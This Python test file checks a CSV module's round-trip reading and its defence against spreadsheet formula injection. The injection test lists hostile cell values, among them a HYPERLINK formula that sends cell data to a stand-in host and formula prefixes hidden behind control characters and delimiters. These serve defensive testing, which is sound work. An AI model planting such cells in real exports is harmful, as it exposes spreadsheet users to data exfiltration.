import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workshop.csv_files import csv_text, read_csv


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"])), min_size=2, max_size=2),
        min_size=1,
        max_size=5,
    ),
    st.sampled_from([",", ";", "\t"]),
)
def test_what_a_csv_writer_writes_is_read_back(rows: list[list[str]], delimiter: str) -> None:
    written = io.StringIO()
    csv.writer(written, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([["x1", "x2"], *rows])
    found = read_csv(written.getvalue())
    assert [cells for _, cells in found.records] == [["x1", "x2"], *([cell.strip() for cell in row] for row in rows)]
    assert not found.problems


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.com?"&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        " =1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "Smith;=1",
        "Smith\t=1",
        'Smith",=1',
        "Smith\r\n@x",
    ],
)
def test_a_spreadsheet_computes_no_cell(cell: str) -> None:
    text = csv_text([["name", "sign-in"], ["Zoë", cell], [cell, "b"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "sign-in"]
    assert rows[1][0] == "Zoë"
    assert rows[2][1] == "b"
    assert rows[1][1].replace("'", "") == rows[2][0].replace("'", "") == cell
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [each for each in row if each.strip().startswith(("=", "+", "-", "@", "\uff1d"))], delimiter


def test_other_cells_stay_as_they_are() -> None:
    row = ["Anne-Marie O'Neill", "a+b@example.com", "x=1", "Smith, J.", 'say "no"', ""]
    assert next(csv.reader(io.StringIO(csv_text([row])))) == row
